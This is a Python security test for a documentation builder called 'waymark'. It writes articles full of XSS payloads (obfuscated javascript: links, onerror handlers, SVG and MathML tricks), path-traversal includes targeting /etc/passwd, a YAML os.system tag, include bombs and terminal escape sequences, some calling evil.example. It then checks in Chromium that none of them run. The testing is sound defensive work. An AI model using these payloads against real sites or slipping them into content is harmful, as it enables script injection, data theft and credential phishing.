"""Builds a folder of attacks and proves that none reaches a page or a terminal.

Each attack is an article. Its pages are opened in Chromium without their content security policy, so that
only the cleaning of the content protects the reader; every attack that was cleaned must be told to the writer.
"""
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile

from playwright.sync_api import sync_playwright

ROOT = pathlib.Path(__file__).resolve().parents[2]
WAYMARK = ROOT / ".build/debug/waymark"

# What an attack runs when it gets through.
RUN = "window.hit=1"
# Name, Markdown, and whether the writer must be told (what is shown as text needs no finding).
ATTACKS = [
    ("script", f"<script>{RUN}</script>", True),
    ("script-upper", f"<SCRIPT>{RUN}</SCRIPT>", True),
    ("script-inline", f"text <script>{RUN}</script> text", True),
    ("script-nested", f"<scr<script>ipt>{RUN}</scr</script>ipt>", True),
    ("script-slash", f"<script/x>{RUN}</script>", False),
    ("script-source", '<script src="//evil.example/x.js"></script>', True),
    ("script-open", f"<script>{RUN}", True),
    ("script-in-comment", f"<!--><script>{RUN}</script>-->", False),
    ("image-error", f'<img src="x" onerror="{RUN}">', True),
    ("image-error-unquoted", f"<img src=x onerror={RUN}>", False),
    ("image-error-slashes", f"<img/src=x/onerror={RUN}>", False),
    ("image-error-newline", f'<img src="x"\nonerror\n=\n"{RUN}">', True),
    ("link-handler", f'<a href="#a" onmouseover="{RUN}">a</a>', True),
    ("details-handler", f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>', True),
    ("keyboard-handler", f'<kbd onfocus="{RUN}" autofocus tabindex="0">a</kbd>', True),
    ("table-handler", f'<table onclick="{RUN}"><tr><td onfocus="{RUN}" tabindex=0 autofocus>a</td></tr></table>', True),
    ("svg", f'<svg onload="{RUN}"><script>{RUN}</script></svg>', True),
    ("svg-animate", f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>', True),
    ("math", f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>', True),
    ("iframe", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>', True),
    ("iframe-script", f'<iframe src="javascript:parent.{RUN}"></iframe>', True),
    ("object", f'<object data="javascript:{RUN}"></object>', True),
    ("embed", '<embed src="//evil.example/x.swf">', True),
    ("style", "<style>body{display:none;background:url(//evil.example/x)}</style>", True),
    ("style-attribute", '<span style="position:fixed;inset:0;background:url(//evil.example/x)">a</span>', True),
    ("link-element", '<link rel="stylesheet" href="//evil.example/x.css">', True),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', True),
    ("base", '<base href="https://evil.example/">', True),
    ("form", '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>', True),
    ("template", f"<template><script>{RUN}</script></template>", True),
    ("noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>', True),
    ("textarea", f"<textarea></textarea><img src=x onerror={RUN}>", True),
    ("title-break", f"</title><script>{RUN}</script>", True),
    ("javascript-link", f"[a](javascript:{RUN})", True),
    ("javascript-link-case", f"[a](JaVaScRiPt:{RUN})", True),
    ("javascript-link-entity", f"[a](java&#115;cript:{RUN})", True),
    ("javascript-link-entity-hex", f"[a](&#x6A;avascript:{RUN})", True),
    ("javascript-link-tab", f"[a](<java\tscript:{RUN}>)", True),
    ("javascript-link-tab-entity", f"[a](java&Tab;script:{RUN})", True),
    ("javascript-link-newline-entity", f"[a](java&NewLine;script:{RUN})", True),
    ("javascript-link-control", f"[a](<\x01javascript:{RUN}>)", True),
    ("javascript-link-space", f"[a](< javascript:{RUN}>)", True),
    ("javascript-link-escaped", f"[a](javascript\\:{RUN})", True),
    ("javascript-link-percent", f"[a](javascript%3A{RUN})", False),
    ("javascript-link-html", f'<a href="javascript:{RUN}">a</a>', True),
    ("javascript-link-html-entity", f'<a href="&#106;avascript:{RUN}">a</a>', True),
    ("javascript-link-html-tab", f'<a href="java&#9;script:{RUN}">a</a>', True),
    ("javascript-reference", f"[a][b]\n\n[b]: javascript:{RUN}", True),
    ("javascript-autolink", f"<javascript:{RUN}>", True),
    ("javascript-image", f"![a](javascript:{RUN})", True),
    ("vbscript-link", "[a](vbscript:msgbox)", True),
    ("data-link", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", True),
    ("data-link-case", "[a](DATA:text/html,%3Cscript%3E)", True),
    ("data-image", "![a](data:image/svg+xml;base64,PHN2Zy8+)", True),
    ("file-link", "[a](file:///etc/passwd)", True),
    ("protocol-relative-image", "![a](//evil.example/x.png)", False),
    ("outside-image", "![a](https://evil.example/x.png)", False),
    ("outside-image-html", '<img src="https://evil.example/x.png" alt="a">', False),
    ("video", f"> [!VIDEO javascript:{RUN}]", False),
    ("video-triple", f':::video source="javascript:{RUN}":::', True),
    ("image-triple", f':::image source="javascript:{RUN}" alt-text="a":::', True),
    ("image-triple-quote", f':::image source="x.png" alt-text="a&quot; onerror=&quot;{RUN}":::', False),
    ("image-triple-lightbox", f':::image source="x.png" alt-text="a" lightbox="javascript:{RUN}":::', True),
    ("image-triple-link", f':::image source="x.png" alt-text="a" link="javascript:{RUN}":::', True),
    ("division-class", f'> [!div class="x\\" onclick=\\"{RUN}"]\n> a', False),
    ("tab", f'# [a](#tab/a"onclick="{RUN})\n\nb\n\n***', False),
    ("zone", f'::: zone pivot="a\\"><script>{RUN}</script>"\na\n::: zone-end', False),
    ("code-language", f'```x"><script>{RUN}</script>\na\n```', False),
    ("code", f"```html\n<script>{RUN}</script>\n```", False),
    ("alt-quote", f'![a" onerror="{RUN}](x.png)', False),
    ("title-quote", f"[a](#a '\" onmouseover=\"{RUN}')", False),
    ("address-quote", f'[a](https://a.example/"onmouseover="{RUN})', False),
    ("anchor-quote", f'<a name="x&quot; onclick=&quot;{RUN}"></a>a', False),
    ("heading-anchor", f'## <a name="a&quot;><script>{RUN}</script>"></a>a', False),
    ("unit-id", f'<span data-ttu-id="a&quot;onclick=&quot;{RUN}">a</span><span class="sxs-lookup">'
                f'<span data-stu-id="a&quot;onclick=&quot;{RUN}">b</span></span>', False),
    ("unit-text", f'<span data-ttu-id="aaaaa-103">a <script>{RUN}</script></span><span class="sxs-lookup">'
                  f'<span data-stu-id="aaaaa-103">b <script>{RUN}</script></span></span>', True),
    ("mustache", "{{{body}}} {{> page}} {{#choices}}x{{/choices}} {{=<% %>=}} {{site.title}}", False),
    ("mustache-unescaped", "{{&title}} {{{title}}}", False),
    ("bidi", "Choose \u202eno\u202c, \u2066yes\u2069 and \u202dmaybe", True),
    ("escape-sequence", "\x1b[2J\x1b]0;hit\x07 \x9b31m red \x1b]52;c;aGl0\x07", True),
    ("escape-entity", "&#27;[2J&#x9b;31m", False),
    ("backspace", "yes\x08\x08\x08no", True),
    ("nul", "a\x00b", True),
    ("include-parent", "[!INCLUDE [a](../../../secret.md)]", True),
    ("include-absolute", "[!INCLUDE [a](/etc/passwd)]", True),
    ("include-tilde", "[!INCLUDE [a](~/../secret.md)]", True),
    ("include-link", "[!INCLUDE [a](includes/out/secret.md)]", True),
    ("include-bomb", "[!INCLUDE [a](includes/bomb0.md)]", False),
    ("include-circle", "[!INCLUDE [a](includes/circle.md)]", False),
    ("code-parent", "[!code-text[a](../../secret.md)]", True),
    ("picture-parent", "![a](../../../secret.png)", True),
    ("picture-link", "![a](includes/out/secret.png)", True),
    ("link-parent", "[a](../../../secret.md)", True),
    ("waymark-id", f'<!-- waymark: id: ../../../x"><script>{RUN}</script> -->\n\n## b', True),
]
FRONT = [
    ("front-title", f'title: "</title><script>{RUN}</script>"'),
    ("front-locale", 'ms.contentlocale: "../../x"'),
    ("front-redirect", f'redirect_url: "javascript:{RUN}"'),
    ("front-uid", f'uid: "\\"><script>{RUN}</script>"'),
    ("front-tag", "title: !!python/object/apply:os.system [id]"),
    ("front-bomb", "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                   "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]"),
]
LINES = [" ".join(attack.replace("|", "\\|").split("\n")) for _, attack, _ in ATTACKS]
ROWS = [LINES[start:start + 24] for start in range(0, len(LINES), 24)]
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]")
# A browser does nothing with the controls of C1, a terminal does.
FORBIDDEN_ON_PAGES = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e]")
failures = []


def expect(condition, what):
    if not condition:
        failures.append(what)
        print(f"FAILED: {what}", file=sys.stderr)


def write_content(folder):
    """Each attack in an article of its own, and all in tables, from where they reach questions, remedies and notes."""
    source = folder / "en-us"
    (source / "includes").mkdir(parents=True)
    (folder / "waymark.yml").write_text(
        f"title: {{en-us: '</title><script>{RUN}</script>'}}\nlocales: [en-us]\n"
        f"escalation: {{en-us: 'Call <script>{RUN}</script> [us](javascript:{RUN})'}}\n")
    for name, attack, _ in ATTACKS:
        text = f"# Attack {name}\n\n{attack}\n\n## How to {name}\n\n1. One\n2. Two\n\n    {attack}\n"
        (source / f"{name}.md").write_bytes(text.encode())
    for number, rows in enumerate(ROWS):
        table = "".join(f"|First {row}|Do this. {row}<br><br>If it still fails, call. {row}|\n" for row in rows)
        (source / f"table{number}.md").write_bytes(f"# Problems\n\n|Problem|Solution|\n|---|---|\n{table}".encode())
    for name, front in FRONT:
        (source / f"{name}.md").write_text(f"---\n{front}\n---\n# Front {name}\n\nText.\n")
    (source / "a\"><script>window.hit=1<\u2215script>.md").write_text("# A name\n\nText.\n")
    (source / "a{{{b}}}.md").write_text("# A template's name\n\nText.\n")
    for depth in range(16):
        (source / "includes" / f"bomb{depth}.md").write_text(f"[!INCLUDE [a](bomb{depth + 1}.md)]\n\n" * 4)
    (source / "includes" / "circle.md").write_text("[!INCLUDE [a](circle.md)]\n")
    outside = folder.parent / "outside"
    outside.mkdir()
    for name in ["secret.md", "secret.png"]:
        (outside / name).write_text("# the secret\n")
        (folder.parent / name).write_text("# the secret\n")
    os.symlink(outside, source / "includes" / "out")
    os.symlink(source, source / "includes" / "loop")


PROBE = """() => {
  const found = [];
  const scheme = (value) => value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${element.localName} ${name}`);
      if (name === "style") found.push(`${element.localName} style`);
      if (["href", "src", "action", "data", "formaction", "srcdoc", "poster"].includes(name)
        && /^(javascript|vbscript|data|file):/.test(scheme(value))) found.push(`${name}=${value}`);
    }
  }
  const own = (element) => new URL(element.src || element.href || "", location).href.includes("/theme/");
  for (const element of document.querySelectorAll("script, link[rel~=stylesheet]"))
    if (!own(element) && element.type !== "application/json") found.push(element.outerHTML.slice(0, 80));
  for (const element of document.querySelectorAll("main iframe, main object, main embed, main style, base, main form:not(.search), main meta, main template"))
    found.push(element.outerHTML.slice(0, 80));
  for (const meta of document.querySelectorAll("meta[http-equiv=refresh]")) found.push(meta.outerHTML);
  if (window.hit) found.push("a script ran");
  return found;
}"""


def open_pages(site):
    """Opens every page without its policy; hovers, focuses and toggles what could be a trigger."""
    pages = sorted(site.rglob("*.html"))
    policy = re.compile(rb'<meta http-equiv="Content-Security-Policy"[^>]*>')
    # A page that has moved leads on by itself; without that it can be looked at.
    refresh = re.compile(rb'<meta http-equiv="refresh" content="0; url=([^"]*)">')
    for page in pages:
        body = page.read_bytes()
        expect(b"the secret" not in body and b"root:x" not in body, f"{page.relative_to(site)} shows nothing from outside")
        expect(not FORBIDDEN_ON_PAGES.search(body.decode("utf-8")), f"{page.relative_to(site)} has no control characters")
        for target in refresh.findall(body):
            expect(re.fullmatch(rb"[\w./-]+", target), f"{page.relative_to(site)} leads to a page of the site, not {target}")
        page.write_bytes(refresh.sub(b"", policy.sub(b"", body)))
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = browser.new_page()
        page.on("dialog", lambda dialog: (expect(False, "a dialog opened"), dialog.dismiss()))
        requests = []
        page.on("request", lambda request: requests.append(request.url))
        for file in pages:
            requests.clear()
            name = file.relative_to(site)
            page.goto(file.as_uri(), wait_until="load")
            if name == pathlib.Path("index.html"):
                continue  # It leads on to the reader's language by itself.
            page.evaluate("""() => {
              for (const element of document.querySelectorAll("main *")) {
                for (const type of ["mouseover", "focus", "click", "toggle", "error", "load"])
                  if (type !== "click" || !element.closest("a, button, summary, label, input"))
                    element.dispatchEvent(new Event(type));
              }
            }""")
            for found in page.evaluate(PROBE):
                expect(False, f"{name}: {found}")
            for url in requests:
                expect(url.startswith("file://") and "secret" not in url, f"{name} asks for {url}")
        browser.close()
    print(f"{len(pages)} pages opened")


def main():
    with tempfile.TemporaryDirectory() as temporary:
        content = pathlib.Path(temporary) / "content"
        site = pathlib.Path(temporary) / "site"
        write_content(content)
        build = subprocess.run([WAYMARK, "build", content, "-o", site], capture_output=True, timeout=300)
        expect(build.returncode in (0, 1), f"the build ends in order, not with {build.returncode}")
        expect(not FORBIDDEN.search((build.stdout + build.stderr).decode()), "findings hold no control characters")
        before = {path.name for path in pathlib.Path(temporary).iterdir()}
        expect(before == {"content", "site", "outside", "secret.md", "secret.png"}, f"nothing is written outside: {before}")
        told(content)
        walks(content)
        open_pages(site)


def told(content):
    check = subprocess.run([WAYMARK, "check", content, "--format", "json"], capture_output=True, timeout=300)
    text = subprocess.run([WAYMARK, "check", content, "--all"], capture_output=True, timeout=300)
    expect(not FORBIDDEN.search((text.stdout + text.stderr).decode()), "excerpts hold no control characters")
    findings = json.loads(check.stdout)["findings"]
    found = {finding["path"] for finding in findings}
    expect("include-too-large" in {finding["code"] for finding in findings}, "the writer is told of a bomb")
    expect("en-us/includes/circle.md" in found, "the writer is told of an include that includes itself")
    for name, _, mustBeTold in ATTACKS:
        if mustBeTold:
            expect(f"en-us/{name}.md" in found, f"the writer is told of {name}")


def walks(content):
    """Walks into every row of the tables, and asks for its note."""
    for number, rows in enumerate(ROWS):
        keys = "".join(f"{row + 1}\nn\n2\nb\nb\n" for row in range(len(rows))) + "q\n"
        walk = subprocess.run([WAYMARK, "walk", content, f"table{number}", "--plain", "--locale", "en-us"],
                              capture_output=True, timeout=200, input=keys.encode())
        text = (walk.stdout + walk.stderr).decode()
        expect(not FORBIDDEN.search(text), f"a walk of table {number} prints no control characters")
        expect(walk.returncode in (0, 3, 4), f"a walk of table {number} ends in order, not with {walk.returncode}")


main()
print(f"{len(ATTACKS) + len(FRONT)} attacks, {len(failures)} failures")
sys.exit(1 if failures else 0)
